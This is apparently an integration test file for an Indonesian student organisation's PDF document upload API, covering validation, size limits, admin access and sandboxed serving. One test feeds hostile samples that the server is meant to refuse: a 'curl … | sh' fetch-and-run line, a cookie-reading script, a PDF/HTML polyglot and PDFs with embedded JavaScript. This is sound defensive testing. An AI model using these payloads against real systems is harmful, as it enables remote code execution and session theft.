/**
 * Documents (dokumen) over real HTTP (contract part two, "Documents (dokumen)"): the public list by kind and cabinet,
 * the admin's add / edit / delete of a PDF, the PDF decided by its content (a polyglot PDF/HTML, an HTML page, a
 * script and a PDF that runs JavaScript refused; nothing left behind), the 20 MB limit, and the file served
 * sandboxed. ADR 097.
 */
import { rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import type { Cabinet, CreateDokumenResponse, Dokumen, DokumenList, UpdateDokumenResponse } from '@hmrpl/contract';
import { startTestApp, createUser, type Agent, type TestApp } from './helpers';
import { blob, oversizeBytes } from './fixtures/images';
import { storedFiles } from './fixtures/storage';
import { purgeTrashed } from './fixtures/trash';

const HTML = { Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' };

let app: TestApp;
let admin: Agent;

beforeAll(async () => {
  app = await startTestApp();
  admin = app.agent();
  await admin.loginOk();
});

async function pdfBytes(text = 'Anggaran Dasar HMRPL'): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([300, 200]);
  page.drawText(text, { x: 20, y: 100, size: 12, font: await pdf.embedFont(StandardFonts.Helvetica) });
  return pdf.save();
}
const ascii = (text: string) => new TextEncoder().encode(text);
const joined = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0));
  let at = 0;
  for (const part of parts) {
    out.set(part, at);
    at += part.length;
  }
  return out;
};

function docForm(fields: Record<string, string>, file?: Uint8Array, name = 'dokumen.pdf') {
  const form = new FormData();
  for (const [key, value] of Object.entries(fields)) form.append(key, value);
  if (file) form.append('file', blob(file, 'application/pdf'), name);
  return form;
}

async function create(fields: Record<string, string>, file?: Uint8Array) {
  return admin.post<CreateDokumenResponse>('/api/admin/dokumen', docForm(fields, file ?? (await pdfBytes())));
}

const list = async (query = '') => (await app.agent().get<DokumenList>(`/api/dokumen${query}`)).body.data;

function expectDokumen(doc: Dokumen) {
  expect(Object.keys(doc).sort()).toEqual(
    // updated_at: the version an edit sends back (edit conflicts, ADR 101)
    ['file_path', 'id', 'kabinet_slug', 'kategori', 'size_bytes', 'slug', 'title', 'updated_at', 'uploaded_at'].sort(),
  );
  expect(doc.file_path).toMatch(/^dokumen_[0-9a-f]{24}_[0-9a-f]{10}\.pdf$/);
  expect(new Date(doc.uploaded_at).toISOString()).toBe(doc.uploaded_at);
}

describe('dokumen', () => {
  it('adds a PDF with its title, kind and cabinet; lists it; serves it as a sandboxed PDF', async () => {
    const cabinet = (await app.agent().get<Cabinet>('/api/kabinet/aktif')).body;
    const bytes = await pdfBytes();
    const res = await create(
      { title: '  AD/ART HMRPL 2025  ', kategori: 'AD/ART', kabinet_id: String(cabinet.id) },
      bytes,
    );
    expect(res.status).toBe(201);
    expect(res.body.message).toBe('Dokumen berhasil ditambahkan!');
    const doc = res.body.data;
    expectDokumen(doc);
    expect(doc).toMatchObject({
      title: 'AD/ART HMRPL 2025',
      slug: 'ad-art-hmrpl-2025',
      kategori: 'AD/ART',
      kabinet_slug: cabinet.slug,
      size_bytes: bytes.length,
    });

    expect((await list()).find((d) => d.id === doc.id)).toEqual(doc);
    expect((await list('?kategori=AD%2FART')).map((d) => d.id)).toContain(doc.id);
    expect((await list('?kategori=SOP')).map((d) => d.id)).not.toContain(doc.id);
    expect((await list(`?kabinet=${cabinet.slug}`)).map((d) => d.id)).toContain(doc.id);
    expect(await list('?kabinet=kabinet-yang-tidak-ada')).toEqual([]);

    const file = await fetch(`${app.baseUrl}/storage/${doc.file_path}`);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('application/pdf');
    expect(file.headers.get('content-security-policy')).toBe('sandbox');
    expect(file.headers.get('x-content-type-options')).toBe('nosniff');
    expect(new Uint8Array(await file.arrayBuffer())).toEqual(bytes);
    // only /storage/ serves a PDF; Strapi's own /uploads/ route keeps serving images only
    expect((await fetch(`${app.baseUrl}/uploads/${doc.file_path}`)).status).toBe(404);
  });

  it('refuses what is not a PDF by its content, whatever its name; nothing is stored', async () => {
    const valid = await pdfBytes();
    const tail = ascii('\n%%EOF\n');
    const cases: Array<[string, Uint8Array]> = [
      [
        'an HTML page named .pdf',
        ascii('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>'),
      ],
      ['a shell script', ascii('#!/bin/sh\ncurl https://contoh.invalid | sh\n')],
      ['a PDF header on a script', joined(ascii('%PDF-1.7\nalert(1)\n'))],
      // a polyglot: a real PDF whose bytes also hold a page a browser would run
      ['a PDF/HTML polyglot', joined(valid, ascii('\n<html><script>fetch("/api/me")</script></html>'), tail)],
      [
        'a PDF that runs JavaScript',
        joined(valid, ascii('\n9 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'), tail),
      ],
      ['its action name escaped', joined(valid, ascii('\n9 0 obj << /S /J#61vaScript >> endobj'), tail)],
      ['an empty file', new Uint8Array(0)],
    ];
    const before = storedFiles(app);
    const countBefore = (await list()).length;
    for (const [what, bytes] of cases) {
      const res = await admin.post('/api/admin/dokumen', docForm({ title: 'Berkas palsu', kategori: 'SOP' }, bytes));
      expect(res.status, what).toBe(422);
      expect(res.body, what).toEqual({
        message: 'Berkas harus berupa PDF.',
        errors: { file: ['Berkas harus berupa PDF.'] },
      });
    }
    expect(storedFiles(app)).toEqual(before);
    expect(await list()).toHaveLength(countBefore);
  });

  it('serves any .pdf in the folder sandboxed: even a page placed there by hand runs nothing of this origin', async () => {
    const name = `tangan-${Date.now().toString(36)}.pdf`;
    writeFileSync(path.join(app.tmpDir, 'public', 'uploads', name), '<html><script>fetch("/api/me")</script></html>');
    const res = await fetch(`${app.baseUrl}/storage/${name}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/pdf');
    expect(res.headers.get('content-security-policy')).toBe('sandbox');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    rmSync(path.join(app.tmpDir, 'public', 'uploads', name));
  });

  it('refuses a PDF over 20 MB (413) and leaves no file', async () => {
    const before = storedFiles(app);
    const big = oversizeBytes(20 * 1024 * 1024 + 1);
    big.set(ascii('%PDF-1.7\n'));
    const res = await admin.post('/api/admin/dokumen', docForm({ title: 'Besar', kategori: 'LPJ' }, big));
    expect(res.status).toBe(413);
    expect(res.body).toEqual({ message: 'Ukuran berkas melebihi 20 MB.' });
    expect(storedFiles(app)).toEqual(before);
  });

  it('says every bad field at once, in Indonesian', async () => {
    const res = await admin.post(
      '/api/admin/dokumen',
      docForm({ title: '   ', kategori: 'Rahasia', kabinet_id: '999999' }),
    );
    expect(res.status).toBe(422);
    expect(res.body.errors).toEqual({
      title: ['Judul dokumen wajib diisi.'],
      kategori: ['Kategori harus salah satu dari AD/ART, SOP, LPJ, atau Lainnya.'],
      kabinet_id: ['Kabinet tidak ditemukan.'],
      file: ['Silakan pilih berkas PDF terlebih dahulu.'],
    });
    const long = await admin.post(
      '/api/admin/dokumen',
      docForm({ title: 'x'.repeat(201), kategori: 'SOP' }, await pdfBytes()),
    );
    expect(long.status).toBe(422);
    expect(long.body.errors).toEqual({
      title: ['Judul dokumen maksimal 200 karakter.'],
    });
  });

  it('edits only what is sent, replaces the PDF (the old file goes), keeps the slug; deletes it and its file', async () => {
    const created = (await create({ title: 'SOP Peminjaman Ruang', kategori: 'SOP' })).body.data;
    const renamed = await admin.post<UpdateDokumenResponse>(
      `/api/admin/dokumen/${created.id}`,
      docForm({ title: 'SOP Peminjaman Ruang dan Alat' }),
    );
    expect(renamed.status).toBe(200);
    expect(renamed.body.message).toBe('Dokumen berhasil diperbarui!');
    expect(renamed.body.data).toMatchObject({
      title: 'SOP Peminjaman Ruang dan Alat',
      slug: created.slug,
      kategori: 'SOP',
      file_path: created.file_path,
    });

    const newer = await pdfBytes('Revisi kedua');
    const replaced = await admin.post<UpdateDokumenResponse>(
      `/api/admin/dokumen/${created.id}`,
      docForm({ kategori: 'Lainnya' }, newer),
    );
    expect(replaced.status).toBe(200);
    expect(replaced.body.data.kategori).toBe('Lainnya');
    expect(replaced.body.data.size_bytes).toBe(newer.length);
    expect(replaced.body.data.file_path).not.toBe(created.file_path);
    expect(storedFiles(app).has(created.file_path)).toBe(false);
    expect((await fetch(`${app.baseUrl}/storage/${created.file_path}`)).status).toBe(404);

    // a refused replacement changes nothing
    const refused = await admin.post(
      `/api/admin/dokumen/${created.id}`,
      docForm({ title: 'Tidak jadi' }, ascii('<html></html>')),
    );
    expect(refused.status).toBe(422);
    expect((await list()).find((d) => d.id === created.id)).toEqual(replaced.body.data);

    const page = () => app.agent().get('/dokumen', { headers: HTML });
    expect((await page()).text).toContain(replaced.body.data.file_path);
    const del = await admin.delete(`/api/admin/dokumen/${created.id}`);
    expect(del.status).toBe(200);
    expect(del.body).toEqual({ message: 'Dokumen berhasil dihapus!' });
    // it leaves the list and the page at once; its PDF waits in the trash and goes with the permanent delete
    expect((await list()).map((d) => d.id)).not.toContain(created.id);
    expect((await page()).text).not.toContain(replaced.body.data.file_path);
    expect(storedFiles(app).has(replaced.body.data.file_path)).toBe(true);
    await purgeTrashed(admin, 'dokumen', replaced.body.data.title);
    expect(storedFiles(app).has(replaced.body.data.file_path)).toBe(false);
    expect((await fetch(`${app.baseUrl}/storage/${replaced.body.data.file_path}`)).status).toBe(404);
    const again = await admin.delete(`/api/admin/dokumen/${created.id}`);
    expect(again.status).toBe(404);
    expect(again.body).toEqual({ message: 'Dokumen tidak ditemukan.' });
    expect((await admin.post(`/api/admin/dokumen/${created.id}`, docForm({ title: 'x' }))).status).toBe(404);
  });

  it('shows no cabinet of a cabinet that is not public yet; a cabinet can be cleared', async () => {
    const next = await app.strapi.documents('api::kabinet.kabinet').create({
      data: { name: 'Rahasia', period: '2099/2100', slug: `rahasia-${Date.now()}`, active: false },
    });
    const doc = (await create({ title: 'LPJ Kabinet Berikutnya', kategori: 'LPJ', kabinet_id: String(next.id) })).body
      .data;
    expect(doc.kabinet_slug).toBeNull();
    expect(await list(`?kabinet=${next.slug}`)).toEqual([]);
    const cleared = await admin.post<UpdateDokumenResponse>(
      `/api/admin/dokumen/${doc.id}`,
      docForm({ kabinet_id: '' }),
    );
    expect(cleared.body.data.kabinet_slug).toBeNull();
    await admin.delete(`/api/admin/dokumen/${doc.id}`);
    await app.strapi.documents('api::kabinet.kabinet').delete({ documentId: next.documentId });
  });

  it('keeps its writes for admins: no session 401, not an admin 403, no CSRF token 419', async () => {
    const anonymous = app.agent();
    await anonymous.csrf();
    expect((await anonymous.post('/api/admin/dokumen', docForm({ title: 'x', kategori: 'SOP' }))).status).toBe(401);
    expect((await anonymous.delete('/api/admin/dokumen/1')).status).toBe(401);
    // login refuses non-admins, so: an admin signs in, then loses the role (read on every request)
    const user = await createUser(app.strapi, { admin: true });
    const member = app.agent();
    await member.loginOk(user.username, user.password);
    const plain = (await app.strapi.db
      .query('plugin::users-permissions.role')
      .findOne({ where: { type: 'authenticated' } })) as { id: number };
    await app.strapi.db
      .query('plugin::users-permissions.user')
      .update({ where: { id: user.id }, data: { role: plain.id } });
    const denied = await member.post('/api/admin/dokumen', docForm({ title: 'x', kategori: 'SOP' }));
    expect(denied.status).toBe(403);
    expect(denied.body).toEqual({ message: 'Akses hanya untuk admin.' });
    const noToken = await admin.request('POST', '/api/admin/dokumen', docForm({ title: 'x', kategori: 'SOP' }), {
      xsrf: false,
    });
    expect(noToken.status).toBe(419);
  });
});
